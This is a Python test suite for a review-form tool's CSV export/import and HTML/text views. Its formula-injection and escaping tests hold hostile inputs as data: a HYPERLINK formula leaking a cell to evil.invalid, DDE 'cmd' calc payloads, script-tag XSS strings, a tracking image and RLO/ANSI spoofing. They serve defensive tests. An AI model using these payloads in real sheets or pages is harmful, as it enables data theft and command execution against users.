"""Review forms as spreadsheets (``review init --format csv``, ``review import``) and the
printable view of a form (``review show``)."""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

import mcqa
from mcqa.cli import cli
from mcqa.review_sheets import neutralise, restore

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples"
DESCRIPTOR = EXAMPLES / "catalog" / "data-analytics-foundations.yaml"
FORMS = sorted((EXAMPLES / "reviews").glob("data-analytics-foundations-*.yaml"))
PROGRAM = EXAMPLES / "program" / "riverbend-college.yaml"
SELF_FORM = EXAMPLES / "program" / "reviews" / "riverbend-self.yaml"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A repository with the example descriptor and its three reviewers' forms."""
    (tmp_path / ".git").mkdir()
    (tmp_path / "catalog").mkdir()
    shutil.copy(DESCRIPTOR, tmp_path / "catalog" / DESCRIPTOR.name)
    (tmp_path / "reviews").mkdir()
    for form in FORMS:
        shutil.copy(form, tmp_path / "reviews" / form.name)
    (tmp_path / "sheets").mkdir()
    return tmp_path


# -- reading and writing sheets as a spreadsheet would ------------------------------------


def read_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def save_rows(
    path: Path,
    rows: list[list[str]],
    *,
    delimiter: str = ";",
    bom: bool = True,
    newline: str = "\r\n",
    encoding: str = "utf-8",
) -> None:
    """Save rows the way a spreadsheet does (Excel's "CSV UTF-8" by default)."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows(rows)
    data = buffer.getvalue().encode(encoding, errors="replace")
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)


def table(rows: list[list[str]]) -> tuple[int, dict[str, int]]:
    """The index of the row of column names, and each column's index by name."""
    header = next(i for i, row in enumerate(rows) if row and row[0] == "standard")
    return header, {name: i for i, name in enumerate(rows[header])}


def set_value(rows: list[list[str]], name: str, value: str) -> None:
    row = next(r for r in rows if r and r[0] == name)
    row[1] = value


def row_of(rows: list[list[str]], standard: str) -> list[str]:
    header, _ = table(rows)
    return next(r for r in rows[header + 1 :] if r and r[0] == standard)


SPELLINGS = {"met": "Met", "not_met": "NOT MET", "not_applicable": "n/a"}


def fill(rows: list[list[str]], form: dict[str, Any], *, spell: bool = True) -> None:
    """Write a YAML form's answers into a sheet, as a reviewer types them."""
    header, columns = table(rows)
    set_value(rows, "reviewer name", form["reviewer"]["name"])
    set_value(rows, "reviewer role", form["reviewer"]["role"].capitalize())
    set_value(rows, "date", form["date"])
    for row in rows[header + 1 :]:
        answer = form["standards"].get(row[0]) if row else None
        if not answer:
            continue
        if answer.get("verdict"):
            verdict = answer["verdict"]
            row[columns["verdict"]] = SPELLINGS[verdict] if spell else verdict
        if answer.get("level") is not None:
            row[columns["level"]] = str(answer["level"])
        row[columns["comment"]] = answer.get("comment") or ""
        row[columns["recommendation"]] = answer.get("recommendation") or ""
        if answer.get("evidence"):
            row[columns["evidence links"]] = "\n".join(answer["evidence"])


def answers_of(form: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The answers of a form, blank fields left out."""
    return {
        sid: {k: v for k, v in answer.items() if v not in (None, [])}
        for sid, answer in form["standards"].items()
    }


def export(descriptor: Path, sheet: Path, *extra: str) -> list[list[str]]:
    result = run("review", "init", str(descriptor), "--format", "csv", "-o", str(sheet), *extra)
    assert result.exit_code == 0, result.output
    return read_rows(sheet)


def decisions(report: mcqa.Report) -> tuple[str, Any, dict[str, str], list[tuple[Any, ...]]]:
    (result,) = report.results
    return (
        result.decision,
        result.score,
        {s.id: s.status for s in result.standards},
        sorted(
            (s.id, a.reviewer, a.role, a.verdict, a.comment, a.recommendation)
            for s in result.standards
            for a in s.reviews
        ),
    )


# -- the Done-when ------------------------------------------------------------------------


def test_filled_sheets_decide_as_the_yaml_forms_do(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    imported = project / "imported"
    for form_path in FORMS:
        form = yaml.safe_load(form_path.read_text(encoding="utf-8"))
        sheet = project / "sheets" / form_path.with_suffix(".csv").name
        rows = export(descriptor, sheet, "--today", "2026-11-28")
        fill(rows, form)
        save_rows(sheet, rows)  # a BOM, ';' between cells, CRLF: Excel's "CSV UTF-8"
        assert sheet.read_bytes().startswith(b"\xef\xbb\xbf")
        assert b"\r\n" in sheet.read_bytes() and b";" in sheet.read_bytes()
        before = sheet.read_bytes()
        result = run("review", "import", str(sheet), "-o", str(imported / form_path.name))
        assert result.exit_code == 0, result.output
        assert sheet.read_bytes() == before  # the sheet is never changed
        made = yaml.safe_load((imported / form_path.name).read_text(encoding="utf-8"))
        assert answers_of(made) == answers_of(form)
        assert made["reviewer"] == form["reviewer"]
        assert made["descriptor"]["sha256"] == form["descriptor"]["sha256"]
    checked = run("review", "validate", str(imported))
    assert checked.exit_code == 0, checked.output
    assert "3 files checked: no problems" in checked.output
    rubric = mcqa.load_rubric("mcqa-core@2.0.0")
    from_yaml = mcqa.check_folder(descriptor, rubric, reviews=project / "reviews")
    from_sheets = mcqa.check_folder(descriptor, rubric, reviews=imported)
    assert decisions(from_sheets) == decisions(from_yaml)
    assert from_sheets.results[0].decision == "conformant"
    disputed = next(s for s in from_sheets.results[0].standards if s.id == "5.5")
    assert sorted(a.verdict or "" for a in disputed.reviews) == ["met", "met", "not_met"]


def test_a_sheet_imports_into_the_form_review_init_writes(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    args = ("--reviewer", "Ana Silva", "--role", "chair", "--today", "2026-11-28")
    made = run(
        "review", "init", str(descriptor), "-o", str(project / "reviews" / "ana.yaml"), *args
    )
    assert made.exit_code == 0, made.output
    sheet = project / "sheets" / "ana.csv"
    export(descriptor, sheet, *args)
    result = run("review", "import", str(sheet), "-o", str(project / "reviews" / "ana-2.yaml"))
    assert result.exit_code == 0, result.output
    assert "31 standards not answered yet" in result.output
    written = (project / "reviews" / "ana-2.yaml").read_text(encoding="utf-8")
    assert written == (project / "reviews" / "ana.yaml").read_text(encoding="utf-8")


def test_the_sheet_holds_the_form(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "ana.csv"
    rows = export(descriptor, sheet, "--reviewer", "Ana Silva", "--today", "2026-11-28")
    data = sheet.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") >= len(rows) and b"\r\r" not in data
    form = yaml.safe_load(FORMS[0].read_text(encoding="utf-8"))
    values = {row[0]: row[1] for row in rows[: table(rows)[0]] if len(row) > 1}
    assert values["mcqa review form"] == "1"
    assert values["rubric"] == "mcqa-core@2.0.0"
    assert values["descriptor id"] == form["descriptor"]["id"]
    assert values["descriptor path"] == "../catalog/data-analytics-foundations.yaml"
    assert values["descriptor sha256"] == form["descriptor"]["sha256"]
    assert (values["reviewer name"], values["reviewer role"]) == ("Ana Silva", "peer")
    assert (values["round"], values["date"]) == ("1", "2026-11-28")
    header, columns = table(rows)
    assert list(columns)[:3] == ["standard", "title", "mode"]
    for name in ("text", "guidance", "evidence in the descriptor", "automated suggestion"):
        assert name in columns
    assert [n for n in columns if n in ("verdict", "level", "comment", "recommendation")] == [
        "verdict",
        "comment",
        "recommendation",
    ]
    standards = [row[0] for row in rows[header + 1 :] if row]
    assert len(standards) == 31 and "4.1" not in standards  # 4.1 is decided by a check
    first = row_of(rows, "1.1")
    assert first[columns["title"]] == "Title and description"
    assert first[columns["essential"]] == "essential"
    assert first[columns["evidence in the descriptor"]].startswith(
        "/title: Data Analytics Foundations\n/description: This short course"
    )
    assert first[columns["automated suggestion"]].startswith("Automated check suggests: met")
    assert all(not row[columns["verdict"]] for row in rows[header + 1 :] if row)


def test_a_sheet_for_a_level_scale_round_trips(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    descriptor = tmp_path / PROGRAM.name
    shutil.copy(PROGRAM, descriptor)
    (tmp_path / "reviews").mkdir()
    form = yaml.safe_load(SELF_FORM.read_text(encoding="utf-8"))
    sheet = tmp_path / "reviews" / "self.csv"
    rows = export(descriptor, sheet, "-r", "mcqa-program", "--role", "self")
    assert {"level", "evidence links"} <= set(table(rows)[1])
    fill(rows, form, spell=False)
    save_rows(sheet, rows, delimiter=",", bom=False, newline="\n")  # LF, no BOM: a Mac's
    result = run("review", "import", str(sheet))
    assert result.exit_code == 0, result.output
    made = yaml.safe_load((tmp_path / "reviews" / "self.yaml").read_text(encoding="utf-8"))
    assert answers_of(made) == answers_of(form)  # levels, links, not_applicable
    assert made["reviewer"] == form["reviewer"] and made["rubric"] == form["rubric"]


def test_an_amendment_sheet_keeps_the_earlier_rounds(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    for form in (project / "reviews").glob("*.yaml"):  # two of three find 2.3 not met
        if "chair" in form.name:
            continue
        text = form.read_text(encoding="utf-8")
        text = text.replace(
            '"2.3":  # Outcomes fit the level\n    verdict: met',
            '"2.3":  # Outcomes fit the level\n    verdict: not_met\n'
            "    recommendation: Name the framework level the outcomes meet.",
        )
        form.write_text(text, encoding="utf-8")
    args = ("--reviewer", "Dr. Amara Osei", "--role", "chair", "--round", "2")
    args += ("--reviews", str(project / "reviews"), "--today", "2027-01-10")
    made = run("review", "init", str(descriptor), "-o", str(project / "round2.yaml"), *args)
    assert made.exit_code == 0, made.output
    sheet = project / "sheets" / "round2.csv"
    rows = export(descriptor, sheet, *args)
    header, columns = table(rows)
    assert [row[0] for row in rows[header + 1 :] if row] == ["2.3"]
    assert "Round 1: not met" in row_of(rows, "2.3")[columns["earlier rounds"]]
    result = run("review", "import", str(sheet), "-o", str(project / "round2-2.yaml"))
    assert result.exit_code == 0, result.output
    assert (project / "round2-2.yaml").read_text(encoding="utf-8") == (
        project / "round2.yaml"
    ).read_text(encoding="utf-8")


# -- what spreadsheets save ---------------------------------------------------------------


def test_what_spreadsheets_save_is_read(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "liam.csv"
    rows = export(descriptor, sheet, "--reviewer", "Liam Byrne", "--role", "sme")
    header, columns = table(rows)
    rows = [[*row, "", ""] for row in rows]  # empty columns at the end
    rows.insert(header + 1, [])  # and empty rows
    rows.insert(3, ["", "", ""])
    rows.append(["", "", "", ""])
    row_of(rows, "1.1")[columns["verdict"]] = " met "
    row_of(rows, "1.2")[columns["verdict"]] = "Not Met"
    row_of(rows, "1.2")[columns["recommendation"]] = "Name the parent body.\nAnd its country."
    row_of(rows, "1.3")[columns["verdict"]] = "not applicable"
    row_of(rows, "1.3")[columns["comment"]] = 'Line one;\r\nline two, with "quotes".'
    row_of(rows, "1.4")[columns["verdict"]] = "N/A"
    row_of(rows, "2.1")[columns["verdict"]] = "not_met"
    row_of(rows, "2.1")[columns["recommendation"]] = "'- state each outcome as a sentence"
    row_of(rows, "2.2")[columns["comment"]] = "- a list item, as a spreadsheet saves it"
    set_value(rows, "date", "28/11/2026")
    save_rows(sheet, rows, delimiter=";")
    result = run("review", "import", str(sheet), "-v")
    assert result.exit_code == 0, result.output
    assert "column verdict (J): 'Not Met' read as not_met" in result.output
    assert "column verdict (J): 'N/A' read as not_applicable" in result.output
    assert "(date), column B: '28/11/2026' read as 2026-11-28" in result.output
    made = yaml.safe_load(sheet.with_suffix(".yaml").read_text(encoding="utf-8"))
    answers = answers_of(made)
    assert answers["1.1"] == {"verdict": "met"}
    assert answers["1.2"] == {
        "verdict": "not_met",
        "recommendation": "Name the parent body.\nAnd its country.",
    }
    assert answers["1.3"] == {
        "verdict": "not_applicable",
        "comment": 'Line one;\nline two, with "quotes".',
    }
    assert answers["1.4"] == {"verdict": "not_applicable"}
    assert answers["2.1"]["recommendation"] == "- state each outcome as a sentence"
    assert answers["2.2"] == {"comment": "- a list item, as a spreadsheet saves it"}
    assert made["date"] == "2026-11-28"


def test_a_sheet_saved_in_windows_1252_is_read_with_a_warning(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "zoe.csv"
    rows = export(descriptor, sheet, "--reviewer", "Zoë Müller")
    row_of(rows, "1.1")[columns_of(rows, "verdict")] = "met"
    row_of(rows, "1.1")[columns_of(rows, "comment")] = "Clear \u2013 and concise."
    save_rows(sheet, rows, delimiter=",", bom=False, encoding="cp1252")
    result = run("review", "import", str(sheet))
    assert result.exit_code == 0, result.output
    assert "not saved as UTF-8" in result.output
    made = yaml.safe_load(sheet.with_suffix(".yaml").read_text(encoding="utf-8"))
    assert made["reviewer"]["name"] == "Zoë Müller"
    assert made["standards"]["1.1"]["comment"] == "Clear \u2013 and concise."


def columns_of(rows: list[list[str]], name: str) -> int:
    return table(rows)[1][name]


def test_a_standard_number_a_spreadsheet_changed_is_found_by_its_title(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "ana.csv"
    rows = export(descriptor, sheet, "--reviewer", "Ana Silva")
    verdict = columns_of(rows, "verdict")
    row = row_of(rows, "2.1")
    row[0], row[verdict] = "02.01.2026", "met"  # a spreadsheet read 2.1 as a date
    save_rows(sheet, rows)
    result = run("review", "import", str(sheet), "-v")
    assert result.exit_code == 0, result.output
    assert "'02.01.2026' read as standard 2.1, by its title" in result.output
    made = yaml.safe_load(sheet.with_suffix(".yaml").read_text(encoding="utf-8"))
    assert answers_of(made)["2.1"] == {"verdict": "met"}


# -- problems, at their row and column -----------------------------------------------------


def test_bad_cells_are_said_at_their_row_and_column(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "bad.csv"
    rows = export(descriptor, sheet, "--reviewer", "Ana Silva")
    columns = table(rows)[1]
    row_of(rows, "2.2")[columns["verdict"]] = "maybe"
    row_of(rows, "3.1")[columns["verdict"]] = "not met"  # and no recommendation
    row_of(rows, "1.3")[0] = "1.33"
    row_of(rows, "1.33")[columns["title"]] = "Audience"
    set_value(rows, "reviewer role", "boss")
    set_value(rows, "date", "3/4/2026")
    save_rows(sheet, rows)
    number = {row[0]: index + 1 for index, row in enumerate(rows) if row}
    result = run("review", "import", str(sheet))
    assert result.exit_code == 1, result.output
    out = result.output
    assert (
        f"row {number['2.2']} (standard 2.2), column verdict (J): 'maybe' is not a verdict; "
        "write met, not met or not applicable" in out
    )
    assert (
        f"row {number['3.1']} (standard 3.1), column recommendation (L): a standard judged "
        "not met needs a recommendation" in out
    )
    assert f"row {number['1.33']} (standard 1.33), column standard (A): " in out
    assert "has no standard '1.33'; did you mean '1.3'?" in out
    assert f"row {number['reviewer role']} (reviewer role), column B: 'boss' is not a role" in out
    assert f"row {number['date']} (date), column B: '3/4/2026' is not a date" in out
    assert "no form was written" in out
    assert not sheet.with_suffix(".yaml").exists()


def test_a_file_that_is_not_a_sheet_is_an_error(tmp_path: Path) -> None:
    sheet = tmp_path / "notes.csv"
    sheet.write_text("name,score\nAna,3\n", encoding="utf-8")
    result = run("review", "import", str(sheet))
    assert result.exit_code == 1, result.output
    assert "this is not a review sheet" in result.output
    assert not (tmp_path / "notes.yaml").exists()


def test_a_sheet_whose_descriptor_cannot_be_found_cannot_run(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    elsewhere = project / "downloads"
    elsewhere.mkdir()
    sheet = elsewhere / "a" / "ana.csv"
    sheet.parent.mkdir()
    rows = export(descriptor, project / "sheets" / "ana.csv", "--reviewer", "Ana Silva")
    save_rows(sheet, rows)  # the path in the sheet no longer leads to the descriptor
    result = run("review", "import", str(sheet))
    assert result.exit_code == 2, result.output
    assert "give it with --descriptor PATH" in result.output
    target = project / "reviews" / "ana.yaml"
    result = run("review", "import", str(sheet), "--descriptor", str(descriptor), "-o", str(target))
    assert result.exit_code == 0, result.output
    made = yaml.safe_load(target.read_text(encoding="utf-8"))
    assert made["descriptor"]["path"] == "../catalog/data-analytics-foundations.yaml"
    assert run("review", "validate", str(target)).exit_code == 0


def test_a_sheet_for_another_descriptor_is_an_error(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "ana.csv"
    rows = export(descriptor, sheet, "--reviewer", "Ana Silva")
    set_value(rows, "descriptor id", "another-microcredential")
    save_rows(sheet, rows)
    result = run("review", "import", str(sheet))
    assert result.exit_code == 1, result.output
    assert "this sheet reviews 'another-microcredential'" in result.output


def test_a_changed_descriptor_is_still_said_to_have_changed(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "ana.csv"
    export(descriptor, sheet, "--reviewer", "Ana Silva")
    text = descriptor.read_text(encoding="utf-8")
    descriptor.write_text(text.replace("Data Analytics Foundations", "Data Analytics 101", 1))
    result = run("review", "import", str(sheet))
    assert result.exit_code == 0, result.output
    assert "(descriptor sha256), column B: the descriptor has changed" in result.output
    assert "changed: title" in result.output
    validated = run("review", "validate", str(sheet.with_suffix(".yaml")))
    assert "changed: title" in validated.output


# -- never overwrite, never change the sheet -------------------------------------------------


def test_import_overwrites_a_form_only_with_force(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "ana.csv"
    rows = export(descriptor, sheet, "--reviewer", "Ana Silva")
    row_of(rows, "1.1")[columns_of(rows, "verdict")] = "met"
    save_rows(sheet, rows)
    before = sheet.read_bytes()
    form = project / "sheets" / "ana.yaml"
    form.write_text("# a reviewer's work\n", encoding="utf-8")
    refused = run("review", "import", str(sheet))
    assert refused.exit_code == 2, refused.output
    assert "already exists" in refused.output and "--force" in refused.output
    assert form.read_text(encoding="utf-8") == "# a reviewer's work\n"
    forced = run("review", "import", str(sheet), "--force")
    assert forced.exit_code == 0, forced.output
    assert answers_of(yaml.safe_load(form.read_text(encoding="utf-8")))["1.1"] == {"verdict": "met"}
    over = run("review", "import", str(sheet), "-o", str(sheet), "--force")
    assert over.exit_code == 2, over.output
    assert sheet.read_bytes() == before


def test_init_never_overwrites_a_sheet(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "ana.csv"
    sheet.write_text("mine", encoding="utf-8")
    result = run("review", "init", str(descriptor), "--format", "csv", "-o", str(sheet))
    assert result.exit_code == 2
    assert sheet.read_text(encoding="utf-8") == "mine"


def test_import_can_write_to_standard_output(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    sheet = project / "sheets" / "ana.csv"
    export(descriptor, sheet, "--reviewer", "Ana Silva")
    result = CliRunner().invoke(cli, ["review", "import", str(sheet), "-o", "-"])
    assert result.exit_code == 0, result.output
    assert yaml.safe_load(result.stdout)["reviewer"]["name"] == "Ana Silva"
    assert not sheet.with_suffix(".yaml").exists()


# -- formula injection -----------------------------------------------------------------------

HOSTILE_TITLE = '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click")'


@given(st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    assert not cell.startswith(FORMULA_START) and not cell.lstrip().startswith(FORMULA_START)


def test_formulas_are_neutralised_and_come_back(project: Path) -> None:
    descriptor = project / "catalog" / DESCRIPTOR.name
    data = yaml.safe_load(descriptor.read_text(encoding="utf-8"))
    data["id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data["title"] = HOSTILE_TITLE
    data["learning_outcomes"][0] = "+cmd|' /C calc'!A0"
    data["description"] = "\t=cmd\x1b[2J\u202eevil " + data["description"]
    descriptor.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    sheet = project / "sheets" / "ana.csv"
    rows = export(descriptor, sheet, "--reviewer", "=1+2")
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
            assert not cell.lstrip().startswith(FORMULA_START), cell
    text = sheet.read_bytes().decode("utf-8")
    assert "\x1b" not in text and "\u202e" not in text  # shown as escapes
    assert "/description: =cmd\\x1b[2J\\u202eevil" in text
    values = {row[0]: row[1] for row in rows[: table(rows)[0]] if len(row) > 1}
    assert values["descriptor title"] == "'" + HOSTILE_TITLE
    assert values["descriptor id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert values["reviewer name"] == "'=1+2"
    verdict, comment = columns_of(rows, "verdict"), columns_of(rows, "comment")
    row_of(rows, "1.1")[verdict] = "met"
    row_of(rows, "1.1")[comment] = "'=SUM(A1:A3) is how I counted"  # as a spreadsheet keeps it
    row_of(rows, "1.2")[verdict] = "met"
    row_of(rows, "1.2")[comment] = "'quoted' on purpose"  # an apostrophe of the reviewer's
    save_rows(sheet, rows)
    result = run("review", "import", str(sheet))
    assert result.exit_code == 0, result.output
    made = yaml.safe_load(sheet.with_suffix(".yaml").read_text(encoding="utf-8"))
    assert made["descriptor"]["id"] == data["id"]  # matched the descriptor, apostrophe off
    assert made["reviewer"]["name"] == "=1+2"
    assert made["standards"]["1.1"]["comment"] == "=SUM(A1:A3) is how I counted"
    assert made["standards"]["1.2"]["comment"] == "'quoted' on purpose"


# -- review show ---------------------------------------------------------------------------

ESC = "\x1b"
RLO = "\u202e"


def hostile_project(project: Path) -> Path:
    descriptor = project / "catalog" / DESCRIPTOR.name
    data = yaml.safe_load(descriptor.read_text(encoding="utf-8"))
    data["title"] = f"<script>alert(1)</script> {ESC}[31mRed{ESC}[0m {RLO}txt.exe"
    data["description"] = '<img src="https://tracker.invalid/x.png"> ' + data["description"]
    descriptor.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    form = project / "reviews" / FORMS[0].name
    text = form.read_text(encoding="utf-8")
    text = text.replace(
        "comment: 'The title names the skill; the description says what learners do, how "
        "they are assessed and what they receive.'",
        'comment: "<script>steal()</script> \\e[2J \\u202eevil</a> The title names it."',
    )
    text = text.replace("name: Dr. Amara Osei", 'name: "<b>Dr.</b> \\e[31m Osei \\u202e"')
    form.write_text(text, encoding="utf-8")
    return form


def test_the_html_view_escapes_hostile_text_and_loads_nothing(project: Path) -> None:
    form = hostile_project(project)
    result = run("review", "show", str(form), "-f", "html")
    assert result.exit_code == 0, result.output
    page = result.stdout
    assert page.startswith("<!DOCTYPE html>") and '<html lang="en">' in page
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;script&gt;steal()&lt;/script&gt;" in page
    assert ESC not in page and RLO not in page
    assert "\\x1b[31mRed" in page and "\\u202e" in page
    # Nothing is loaded: links stay in the page, no source, no stylesheet from outside.
    assert all(
        href.startswith("#") or href == "data:," for href in re.findall(r'href="([^"]*)"', page)
    )
    assert not re.search(r"<[a-z][^>]*\ssrc=", page)
    assert "url(" not in page and "@import" not in page
    assert "&lt;img src=&#34;https://tracker.invalid/x.png&#34;&gt;" in page  # text, shown
    policy = html.unescape(re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1])
    assert policy.startswith("default-src 'none'; style-src ")
    for style in re.findall(r"<style>(.*?)</style>", page, re.S):
        digest = base64.b64encode(hashlib.sha256(style.encode("utf-8")).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    # The form's content: the standard, its guidance, the evidence beside it, the answer.
    assert "Title and description" in page and "Guidance for reviewers" in page
    assert "In the descriptor" in page and "The reviewer's answer" in page
    assert "@media print" in page


def test_the_text_view_escapes_hostile_text(project: Path) -> None:
    form = hostile_project(project)
    result = run("review", "show", str(form))
    assert result.exit_code == 0, result.output
    assert ESC not in result.stdout and RLO not in result.stdout
    assert "Answered: 31 of 31 standards" in result.stdout
    assert "Answer: Met" in result.stdout and "In the descriptor:" in result.stdout


def test_show_writes_a_file_only_once_without_force(project: Path) -> None:
    form = project / "reviews" / FORMS[0].name
    page = project / "form.html"
    assert run("review", "show", str(form), "-f", "html", "-o", str(page)).exit_code == 0
    assert page.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    again = run("review", "show", str(form), "-f", "html", "-o", str(page))
    assert again.exit_code == 2 and "--force" in again.output
    forced = run("review", "show", str(form), "-o", str(page), "--force")
    assert forced.exit_code == 0 and page.read_text(encoding="utf-8").startswith("Review form")


def test_show_cannot_run_on_what_is_not_a_form(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yaml"
    broken.write_text("rubric: [\n", encoding="utf-8")
    result = run("review", "show", str(broken))
    assert result.exit_code == 2, result.output
    assert "cannot be shown" in result.output
